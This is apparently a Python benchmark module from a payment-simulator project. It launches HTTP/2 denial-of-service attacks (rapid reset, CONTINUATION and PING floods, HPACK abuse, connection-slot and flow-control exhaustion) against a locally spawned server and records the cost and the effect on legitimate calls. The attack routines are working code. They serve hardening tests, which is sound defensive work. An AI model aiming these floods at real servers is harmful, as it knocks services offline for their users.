"""Issue 13's attacks against a real ``paysim serve``, each with what it cost the server.

``python -m paysim.benchmarks.hostile`` (or ``--only NAME``): for each attack a
fresh ``paysim serve`` (production settings, ``loadgen.spawn``), its idle RSS,
then the attack from raw sockets (``h2_peer.FramePeer``) while a stock grpcio
client sends CreatePaymentIntent on its own connection. Reported per attack:
the server's peak RSS over its idle baseline, the CPU seconds it spent, how
the attack ended (GOAWAY code, closed, bytes accepted), and the legitimate
calls' p99 and failures during the attack. ``--server-env KEY=VALUE`` adds to
the server's environment. For a before/after, run the whole command from
each checkout's root in turn: ``python -m`` puts the current directory ahead of
``PYTHONPATH``, so ``PYTHONPATH=DIR`` run from a checkout measures that checkout.
"""

from __future__ import annotations

import argparse
import json
import socket
import sys
import threading
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any

import grpc
import trio

from paysim._proto.proto.common.v1 import types_pb2
from paysim._proto.proto.payment.v1 import payment_pb2 as pb
from paysim._proto.proto.payment.v1 import payment_pb2_grpc
from paysim.benchmarks.h2_peer import FramePeer, grpc_message, raw_frame, request_headers
from paysim.loadgen.spawn import SpawnedServer, spawned_server

CREATE = "/payment.v1.PaymentService/CreatePaymentIntent"
_GONE = (trio.BrokenResourceError, trio.ClosedResourceError)
MIB = 1024 * 1024


def _rss_kib(pid: int, field: str = "VmRSS") -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith(field + ":"):
            return int(line.split()[1])
    return 0


class _Legit:
    """CreatePaymentIntent in a loop on its own channel; latencies and failures."""

    def __init__(self, target: str) -> None:
        self.target = target
        self.latencies: list[float] = []
        self.failures: dict[str, int] = {}
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._run, daemon=True)

    def _run(self) -> None:
        with grpc.insecure_channel(self.target, options=[("grpc.enable_http_proxy", 0)]) as ch:
            stub = payment_pb2_grpc.PaymentServiceStub(ch)
            n = 0
            while not self._stop.is_set():
                n += 1
                request = pb.CreatePaymentIntentRequest(
                    reservation_id=f"legit_{n}",
                    user_id="legit",
                    amount=types_pb2.Money(amount=1000, currency="KRW"),
                )
                start = time.perf_counter()
                try:
                    stub.CreatePaymentIntent(request, timeout=10)
                except grpc.RpcError as exc:
                    self.failures[exc.code().name] = self.failures.get(exc.code().name, 0) + 1
                self.latencies.append(time.perf_counter() - start)
                time.sleep(0.01)

    def __enter__(self) -> _Legit:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._thread.join()

    def summary(self) -> dict[str, Any]:
        lat = sorted(self.latencies)
        p99 = lat[min(len(lat) - 1, int(len(lat) * 0.99))] if lat else None
        return {
            "legit_calls": len(lat),
            "legit_failed": self.failures,
            "legit_p99_ms": None if p99 is None else round(p99 * 1000, 1),
        }


Attack = Callable[[int, dict[str, Any]], Awaitable[None]]


async def _until_closed(peer: FramePeer, seconds: float) -> None:
    with trio.move_on_after(seconds):
        await peer.closed.wait()


def _ended(peer: FramePeer, out: dict[str, Any]) -> None:
    out["closed_by_server"] = peer.closed.is_set()
    out["goaway"] = None if peer.goaway is None else peer.goaway.error_code


async def unary_flood(port: int, out: dict[str, Any]) -> None:
    """Finding 6a: one unary call, complete 4 MiB messages, never END_STREAM."""
    async with trio.open_nursery() as nursery:
        peer = await FramePeer.connect(nursery, port)
        message = grpc_message(b"\x0a" + b"\x00" * (4 * MIB - 6))
        await peer.send(peer.headers_frame(1, request_headers(CREATE)))
        sent = 0
        with trio.move_on_after(5):
            try:
                while not peer.closed.is_set():
                    for i in range(0, len(message), 16_384):
                        await peer.send(peer.data_frame(1, message[i : i + 16_384]))
                        sent += 16_384
            except _GONE:
                pass
        await _until_closed(peer, 1)
        out["bytes_sent"] = sent
        out["stream_reset"] = peer.seen(1).reset
        out["grpc_status"] = peer.seen(1).header("grpc-status")
        _ended(peer, out)
        nursery.cancel_scope.cancel()


async def continuation_flood(port: int, out: dict[str, Any]) -> None:
    """Finding 6b: a header block of 64 CONTINUATION frames of 16 MiB each."""
    async with trio.open_nursery() as nursery:
        peer = await FramePeer.connect(nursery, port)
        first = peer.headers_frame(1, request_headers(CREATE), end_headers=False)
        await peer.send(first)
        chunk = b"\x00" * MIB
        sent = 0
        with trio.move_on_after(10):
            try:
                for _ in range(64):
                    length = 16 * MIB - 1
                    header = length.to_bytes(3, "big") + b"\x09\x00" + (1).to_bytes(4, "big")
                    await peer.send_raw(header)
                    for _ in range(16):
                        await peer.send_raw(chunk)
                        sent += len(chunk)
            except _GONE:
                pass
        out["bytes_sent"] = sent
        await _until_closed(peer, 2)
        _ended(peer, out)
        nursery.cancel_scope.cancel()


async def hpack_size_updates(port: int, out: dict[str, Any]) -> None:
    """Finding 7a: a 32 MiB header block of table-size updates."""
    async with trio.open_nursery() as nursery:
        peer = await FramePeer.connect(nursery, port)
        # 64 frames of 512 KiB: within the 16 MiB frames and 64 CONTINUATIONs h2 allowed.
        size = 512 * 1024
        block = b"\x20" * (32 * MIB)
        frames = [raw_frame(0x1, 0x0, 1, block[:size])]
        for i in range(size, len(block), size):
            last = i + size >= len(block)
            frames.append(raw_frame(0x9, 0x4 if last else 0x0, 1, block[i : i + size]))
        start = time.perf_counter()
        with trio.move_on_after(60):
            try:
                for f in frames:
                    await peer.send_raw(f)
            except _GONE:
                pass
            await peer.closed.wait()
        out["seconds_to_close"] = round(time.perf_counter() - start, 3)
        _ended(peer, out)
        nursery.cancel_scope.cancel()


def _rapid_reset_bytes() -> bytes:
    encoder = FramePeer(None)  # type: ignore[arg-type]
    chunks = []
    for n in range(5_000):
        sid = 1 + 2 * n
        chunks.append(encoder.headers_frame(sid, request_headers(CREATE)).serialize())
        chunks.append(encoder.rst(sid).serialize())
    return b"".join(chunks)


async def _reconnecting(port: int, payload: bytes, seconds: float, out: dict[str, Any]) -> None:
    """Send ``payload`` on a new connection, again and again, for ``seconds``."""
    connections = 0
    goaways: dict[str, int] = {}
    with trio.move_on_after(seconds):
        while True:
            async with trio.open_nursery() as nursery:
                peer = await FramePeer.connect(nursery, port)
                connections += 1
                try:
                    while not peer.closed.is_set():  # the same connection, until it ends
                        await peer.send_raw(payload)
                except _GONE:
                    pass
                await _until_closed(peer, 5)
                key = str(None if peer.goaway is None else peer.goaway.error_code)
                goaways[key] = goaways.get(key, 0) + 1
                nursery.cancel_scope.cancel()
    out["attack_connections"] = connections
    out["goaway_codes"] = goaways


async def rapid_reset(port: int, out: dict[str, Any]) -> None:
    """Finding 7b: HEADERS + RST_STREAM pairs, reconnecting, for 10 s."""
    await _reconnecting(port, _rapid_reset_bytes(), 10, out)


async def ping_flood(port: int, out: dict[str, Any]) -> None:
    """Finding 7c: PINGs as fast as the socket takes them, reconnecting, for 10 s."""
    ping = FramePeer.ping().serialize()
    await _reconnecting(port, ping * 20_000, 10, out)


async def settings_flood(port: int, out: dict[str, Any]) -> None:
    await _reconnecting(port, raw_frame(0x4, 0, 0, b"") * 20_000, 10, out)


async def ping_no_read(port: int, out: dict[str, Any]) -> None:
    """Finding 7d: PINGs from a peer that never reads one ACK."""
    stream = await trio.open_tcp_stream("127.0.0.1", port)
    sock = stream.socket
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    await stream.send_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + raw_frame(0x4, 0, 0, b""))
    ping = FramePeer.ping().serialize() * 1024
    sent = 0
    with trio.move_on_after(10):
        try:
            while True:
                await stream.send_all(ping)
                sent += len(ping)
        except _GONE:
            out["closed_by_server"] = True
    out["bytes_sent"] = sent
    await stream.aclose()


async def idle_slots(port: int, out: dict[str, Any]) -> None:
    """Finding 8a: 150 sockets that send nothing or only the preface (limit: 100)."""
    streams = []
    for i in range(150):
        s = await trio.open_tcp_stream("127.0.0.1", port)
        if i % 2:
            await s.send_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + raw_frame(0x4, 0, 0, b""))
        streams.append(s)
    # A client that connects now, with every slot taken: does it get in?
    target = f"127.0.0.1:{port}"
    out["new_client_at_full_slots"] = await trio.to_thread.run_sync(_fresh_call, target)
    await trio.sleep(15)  # past the handshake timeout, with the legit client calling
    out["new_client_after_15_s"] = await trio.to_thread.run_sync(_fresh_call, target)
    for s in streams:
        await s.aclose()


def _fresh_call(target: str) -> str:
    with grpc.insecure_channel(target, options=[("grpc.enable_http_proxy", 0)]) as channel:
        stub = payment_pb2_grpc.PaymentServiceStub(channel)
        request = pb.CreatePaymentIntentRequest(
            reservation_id="fresh",
            user_id="fresh",
            amount=types_pb2.Money(amount=1, currency="KRW"),
        )
        try:
            stub.CreatePaymentIntent(request, timeout=5)
        except grpc.RpcError as exc:
            return str(exc.code().name)
        return "OK"


async def stalled_windows(port: int, out: dict[str, Any]) -> None:
    """Finding 8c: 20 connections x 1,000 streams whose window never opens."""
    body = pb.CreatePaymentIntentRequest(
        reservation_id="stall",
        user_id="stall",
        amount=types_pb2.Money(amount=1000, currency="KRW"),
    ).SerializeToString()
    async with trio.open_nursery() as nursery:
        peers = []
        for _ in range(20):
            peer = await FramePeer.connect(nursery, port, settings={0x4: 0})
            frames = b"".join(
                peer.headers_frame(1 + 2 * n, request_headers(CREATE)).serialize()
                + peer.data_frame(1 + 2 * n, grpc_message(body), end_stream=True).serialize()
                for n in range(1_000)
            )
            try:
                await peer.send_raw(frames)
            except _GONE:
                pass
            peers.append(peer)
        await trio.sleep(10)
        out["refused_streams"] = sum(1 for p in peers for s in p.streams.values() if s.reset == 0x7)
        nursery.cancel_scope.cancel()


ATTACKS: dict[str, tuple[Attack, dict[str, str]]] = {
    "unary-flood": (unary_flood, {}),
    "continuation-flood": (continuation_flood, {}),
    "hpack-size-updates": (hpack_size_updates, {}),
    "rapid-reset": (rapid_reset, {}),
    "ping-flood": (ping_flood, {}),
    "settings-flood": (settings_flood, {}),
    "ping-no-read": (ping_no_read, {}),
    "idle-slots": (idle_slots, {"GRPC_MAX_CONNECTIONS": "100"}),
    "stalled-windows": (stalled_windows, {}),
}


def _attack(server: SpawnedServer, name: str, attack: Attack) -> dict[str, Any]:
    pid = server.process.pid
    out: dict[str, Any] = {"attack": name}
    time.sleep(0.5)
    idle = _rss_kib(pid)
    cpu0 = server.cpu_s() or 0.0
    peak = idle
    done = threading.Event()

    def sample() -> None:
        nonlocal peak
        while not done.is_set():
            try:
                peak = max(peak, _rss_kib(pid))
            except OSError:
                return
            time.sleep(0.02)

    sampler = threading.Thread(target=sample, daemon=True)
    sampler.start()
    with _Legit(server.target) as legit:
        time.sleep(0.3)
        trio.run(attack, server.grpc_port, out)
        time.sleep(0.5)
    done.set()
    sampler.join()
    out["server_alive"] = server.process.poll() is None
    out["peak_rss_over_idle_mib"] = round((peak - idle) / 1024, 1)
    out["server_cpu_s"] = round((server.cpu_s() or 0.0) - cpu0, 2)
    out.update(legit.summary())
    return out


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m paysim.benchmarks.hostile")
    parser.add_argument("--only", action="append", choices=sorted(ATTACKS))
    parser.add_argument("--cores", default="0")
    parser.add_argument("--server-env", action="append", default=[], metavar="KEY=VALUE")
    args = parser.parse_args(argv)
    extra = dict(item.split("=", 1) for item in args.server_env)
    cores = tuple(int(c) for c in args.cores.split(","))
    failed = False
    for name in args.only or list(ATTACKS):
        attack, env = ATTACKS[name]
        with spawned_server(cores, extra_env={**env, **extra}) as server:
            result = _attack(server, name, attack)
        print(json.dumps(result), flush=True)
        failed = failed or not result["server_alive"]
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
